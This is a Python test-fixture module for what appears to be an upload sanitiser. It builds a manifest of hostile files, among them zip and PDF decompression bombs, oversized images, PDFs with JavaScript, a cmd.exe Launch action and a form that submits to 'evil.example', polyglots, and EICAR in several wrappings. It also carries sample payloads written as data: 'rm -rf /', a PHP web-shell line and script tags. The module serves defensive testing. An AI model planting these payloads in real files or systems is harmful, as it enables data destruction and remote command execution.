"""Hostile files, made here and nowhere downloaded, each with what must become of it: the manifest.

``refused`` is the name of the refusal; without one the file comes through as a safe copy in which nothing acts.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.papers.makers import a_pdf, a_photo, a_png, acts

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""The harmless file that every virus scanner reports."""
SCRIPT = b"<script>alert(1)</script>"
SHELL = b"#!/bin/sh\nrm -rf /\n"
PROGRAMME = b"MZ\x90\x00This program cannot be run in DOS mode."
OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@dataclass(frozen=True)
class Hostile:
    """One file: its name, what it is made of, what must become of it."""

    name: str
    make: Callable[[], bytes]
    refused: str = ""

    def __str__(self) -> str:
        return self.name


def changed(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    """Return a PDF of two pages that somebody has changed."""
    return a_pdf(pages=2, change=change)


def in_the_root(key: str, value: Any) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root[Name(key)] = value

    return changed(change)


def with_an_annotation(**entries: Any) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 10, 10]), **entries)
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return changed(change)


def with_an_attachment(name: str, content: bytes) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[name] = content

    return changed(change)


def with_a_script_among_the_names() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(script)])))

    return changed(change)


def with_actions_of_a_page() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))

    return changed(change)


def with_a_hidden_script() -> bytes:
    """A script whose name is written with escapes, in an object stream."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name("/JavaScript"), JS=String("app.alert(1)")))

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(changed(change))) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def with_a_form_that_sends() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        send = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))
        field = Dictionary(FT=Name.Btn, T=String("go"), Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), A=send)
        pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), XFA=String("<xdp/>"))
        pdf.pages[0].Annots = Array([pdf.Root.AcroForm.Fields[0]])

    return changed(change)


def a_pdf_that_unfolds(megabytes: int = 320) -> bytes:
    """A page whose words are a third of a gigabyte of nothing, pressed twice."""
    squeeze, once = zlib.compressobj(1), b""
    for _ in range(megabytes):
        once += squeeze.compress(bytes(1 << 20))
    twice = zlib.compress(once + squeeze.flush(), 9)

    def change(pdf: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(pdf, b"")
        stream.write(twice, filter=Array([Name.FlateDecode, Name.FlateDecode]))
        pdf.pages[0].Contents = pdf.make_indirect(stream)

    return changed(change)


def a_pdf_with_a_picture_of(width: int, height: int) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(pdf, b"\0")
        image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, width, height
        image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 1
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(I=pdf.make_indirect(image)))

    return changed(change)


def a_png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that says how large it is, with little in it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = data or zlib.compress(bytes(1 << 20))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def a_png_with_text(words: bytes, *, pressed: bool = False) -> bytes:
    out, info = io.BytesIO(), PngInfo()
    info.add_text("Comment", words.decode("latin-1"), zip=pressed)
    Image.new("RGB", (30, 20), "white").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def a_photo_with_a_place() -> bytes:
    """A photo that says where and with what it was taken."""
    exif, out = Image.Exif(), io.BytesIO()
    exif[0x010F], exif[0x9286] = "SpyCam", "taken at home"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (35.0, 40.0, 0.0), "E", (139.0, 41.0, 0.0)
    Image.new("RGB", (60, 40), "white").save(out, "JPEG", exif=exif)
    return out.getvalue()


def a_jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose head says that it is larger than it is."""
    whole = bytearray(a_photo())
    place = next(i for i in range(len(whole)) if whole[i : i + 2] == b"\xff\xc0")
    whole[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def zipped(content: bytes, name: str = "inside", times: int = 1) -> bytes:
    for _ in range(times):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, content)
        content, name = out.getvalue(), "inside.zip"
    return content


MANIFEST = (
    # What bursts.
    Hostile("bomb in a zip.pdf", lambda: zipped(bytes(1 << 24)), "WrongType"),
    Hostile("bomb in nested zips.jpg", lambda: zipped(bytes(1 << 20), times=5), "WrongType"),
    Hostile("PNG of a million by a million.png", lambda: a_png_of(1_000_000, 1_000_000), "TooManyPixels"),
    Hostile("PNG of nothing that unfolds.png", lambda: a_png_of(30_000, 30_000), "TooManyPixels"),
    Hostile("PNG with less in it than it says.png", lambda: a_png_of(4000, 4000), "Broken"),
    Hostile("JPEG of 65,000 by 65,000.jpg", lambda: a_jpeg_of(65_000, 65_000), "TooManyPixels"),
    Hostile("PDF whose page unfolds without end.pdf", a_pdf_that_unfolds, "Unfolds"),
    Hostile("PDF with an immense picture.pdf", lambda: a_pdf_with_a_picture_of(100_000, 100_000), "TooManyPixels"),
    Hostile("PDF of 101 pages.pdf", lambda: a_pdf(pages=101), "TooManyPages"),
    Hostile("a byte too large.pdf", lambda: a_pdf() + bytes(10 * 1024 * 1024), "TooLarge"),
    Hostile("nothing at all.jpg", lambda: b"", "EmptyFile"),
    # What acts.
    Hostile("script at opening.pdf", lambda: changed(acts({"/S": Name.JavaScript, "/JS": String("app.alert(1)")}))),
    Hostile("hidden script.pdf", with_a_hidden_script),
    Hostile("script among the names.pdf", with_a_script_among_the_names),
    Hostile("actions of a page.pdf", with_actions_of_a_page),
    Hostile("form that sends.pdf", with_a_form_that_sends),
    Hostile("form of XFA.pdf", lambda: in_the_root("/AcroForm", Dictionary(XFA=String("<xdp/>"), Fields=Array([])))),
    Hostile(
        "starts a programme.pdf",
        lambda: changed(acts({"/S": Name.Launch, "/F": String("cmd.exe")})),
        "StartsProgrammes",
    ),
    Hostile(
        "starts one from a link.pdf",
        lambda: with_an_annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("x"))),
        "StartsProgrammes",
    ),
    Hostile(
        "link to the world.pdf",
        lambda: with_an_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://evil.example/"))),
    ),
    Hostile(
        "link to another file.pdf",
        lambda: with_an_annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String(r"\\evil\share\x.pdf"))),
    ),
    Hostile("imports data.pdf", lambda: changed(acts({"/S": Name.ImportData, "/F": String("x.fdf")}))),
    Hostile("a film.pdf", lambda: with_an_annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    Hostile("three dimensions.pdf", lambda: with_an_annotation(Subtype=Name("/3D"))),
    Hostile("a screen.pdf", lambda: with_an_annotation(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition))),
    Hostile("a file within.pdf", lambda: with_an_attachment("x.exe", PROGRAMME)),
    Hostile("a portfolio.pdf", lambda: in_the_root("/Collection", Dictionary(View=Name.D)), "Portfolio"),
    Hostile("locked.pdf", lambda: a_pdf(password="x"), "Locked"),
    # What is two things at once, or another than it says.
    Hostile("photo and zip.jpg", lambda: a_photo() + zipped(b"x"), "Disguised"),
    Hostile("PDF and zip.pdf", lambda: a_pdf() + zipped(b"x"), "Disguised"),
    Hostile("picture and page.png", lambda: a_png() + SCRIPT, "Disguised"),
    Hostile("photo with a page in its comment.jpg", lambda: a_photo(comment=SCRIPT), "Disguised"),
    Hostile("photo with PHP.jpg", lambda: a_photo(comment=b"<?php system($_GET['x']);"), "Disguised"),
    Hostile("photo and programme.jpg", lambda: a_photo() + PROGRAMME),
    Hostile("photo and shell.jpg", lambda: a_photo(comment=SHELL)),
    Hostile("PDF behind something.pdf", lambda: b"GIF89a" + a_pdf(), "WrongType"),
    Hostile("programme.pdf", lambda: PROGRAMME, "WrongType"),
    Hostile("page.jpg", lambda: b"<!doctype html>" + SCRIPT, "WrongType"),
    Hostile("drawing.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "WrongType"),
    Hostile("macro.docm.pdf", lambda: zipped(b"x", "word/vbaProject.bin"), "WrongType"),
    Hostile("old office.pdf", lambda: OFFICE, "WrongType"),
    Hostile("phone.jpg", lambda: b"\0\0\0\x18ftypheic" + bytes(64), "PhoneFormat"),
    Hostile("animation.gif.png", lambda: b"GIF89a" + bytes(64), "WrongType"),
    Hostile("half a photo.jpg", lambda: a_photo(size=(900, 700))[:2000], "Broken"),
    Hostile("half a PDF.pdf", lambda: b"%PDF-1.7\n", "Broken"),
    Hostile("sum that is wrong.png", lambda: a_png()[:-20] + b"x" + a_png()[-19:], "Broken"),
    # What tells of people.
    Hostile("where it was taken.jpg", a_photo_with_a_place),
    Hostile("who wrote it.pdf", lambda: changed(lambda pdf: pdf.docinfo.__setitem__("/Author", "山田 花子"))),
    # EICAR in six wrappings.
    Hostile("EICAR.pdf", lambda: EICAR, "WrongType"),
    Hostile("EICAR in a zip.jpg", lambda: zipped(EICAR), "WrongType"),
    Hostile("EICAR in nested zips.pdf", lambda: zipped(EICAR, times=3), "WrongType"),
    Hostile("EICAR behind a photo.jpg", lambda: a_photo() + EICAR),
    Hostile("EICAR in the words of a picture.png", lambda: a_png_with_text(EICAR, pressed=True)),
    Hostile("EICAR within a PDF.pdf", lambda: with_an_attachment("eicar.com", EICAR)),
    # What is honest comes through.
    Hostile("honest.jpg", a_photo),
    Hostile("honest.png", a_png),
    Hostile("honest.pdf", lambda: a_pdf(pages=3)),
)
